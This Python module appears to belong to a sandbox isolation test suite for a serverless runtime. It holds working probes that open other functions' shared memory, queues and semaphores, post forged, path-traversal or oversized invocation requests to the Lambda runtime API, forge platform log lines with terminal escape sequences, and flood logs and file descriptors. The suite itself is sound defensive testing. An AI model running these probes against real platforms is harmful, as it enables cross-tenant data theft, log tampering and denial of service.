"""Memory and queues shared between processes, invocations of others, the log."""

import ctypes
import os
import socket
import sys

from kiln_attacks import attack, first, refused, text_of

LIBC = ctypes.CDLL(None, use_errno=True)


def table(name):
    return text_of("/proc/sysvipc/" + name).splitlines()[1:]


@attack("shared-memory", "takes the shared memory of another function")
def shared_memory(facts):
    return LIBC.shmget(facts["victim"]["key"], 0, 0) >= 0 and "found it"


@attack("shared-memory", "lists shared memory, semaphores and queues of the host")
def list_shared(facts):
    return first("sees %d of %s" % (len(table(name)), name) for name in ("shm", "sem", "msg") if table(name))


@attack("shared-memory", "takes the message queue and semaphores of another function")
def queues(facts):
    key = facts["victim"]["key"]
    return first(
        [LIBC.msgget(key, 0) >= 0 and "found the queue", LIBC.semget(key, 0, 0) >= 0 and "found the semaphores"]
    )


@attack("shared-memory", "takes the POSIX shared memory of another function")
def posix_memory(facts):
    return first(
        refused("opened " + path, open, path, "rb")
        for path in ("/dev/shm/" + facts["victim"]["secret"], "/dev/mqueue/" + facts["victim"]["secret"])
    )


@attack("invocations", "answers for an invocation that it was not given")
def forged_answer(facts):
    return first(posted("invocation/%s/%s" % (request, end)) for request in
                 ("00000000-0000-0000-0000-000000000000", "..%2f..%2fx", "x" * 5000) for end in ("response", "error"))


@attack("invocations", "takes a second invocation while it has one")
def second_invocation(facts):
    return posted("invocation/next", "GET")


@attack("invocations", "reports a failed start although it has started")
def late_init_error(facts):
    return posted("init/error")


def posted(path, method="POST"):
    api = os.environ.get("AWS_LAMBDA_RUNTIME_API", "").split(":")
    if len(api) != 2:
        return None
    try:
        with socket.create_connection((api[0], int(api[1])), timeout=0.5) as connection:
            request = "%s /2018-06-01/runtime/%s HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
            connection.sendall((request % (method, path)).encode())
            status = connection.recv(4096).split(b"\r\n")[0].split(b" ")[1:2]
            return status and status[0][:1] == b"2" and "%s was taken" % path
    except OSError:
        return None


@attack("log-forgery", "writes lines that look like the platform's", "log")
def forged_lines(facts):
    for line in ("START RequestId: forged Version: $LATEST", "END RequestId: forged",
                 "REPORT RequestId: forged\tDuration: 0.01 ms\tBilled Duration: 1 ms",
                 '{"type":"platform.report","record":{"requestId":"forged"}}'):
        print(line)
    sys.stdout.flush()


@attack("log-forgery", "ends a line with what a terminal or a parser trips over", "log")
def odd_lines(facts):
    os.write(1, b"one\r\ntwo\rthree\0four\x1b[2J\x1b]0;kiln\x07 \xff\xfe\xc3\x28\nEND RequestId: forged\n")


@attack("log-forgery", "writes a line of four megabytes", "log")
def long_line(facts):
    for _ in range(64):
        os.write(1, b"x" * 65536)
    os.write(1, b"\n")


@attack("log-forgery", "writes fifty thousand lines", "log")
def flood(facts):
    for _ in range(50):
        os.write(1, b"flood\n" * 1000)


@attack("invocations", "writes rubbish where the executor reads its answers", "rubbish")
def rubbish(facts):
    for name in range(3, 64):
        try:
            os.set_blocking(name, False)
            os.write(name, b"\xff" * 4096)
        except OSError:
            pass


@attack("invocations", "claims an answer of two gigabytes", "claim")
def claim(facts):
    for name in range(3, 64):
        try:
            os.set_blocking(name, False)
            os.write(name, b"\x7f\xff\xff\xff\x04" + b"x" * 1000)
        except OSError:
            pass
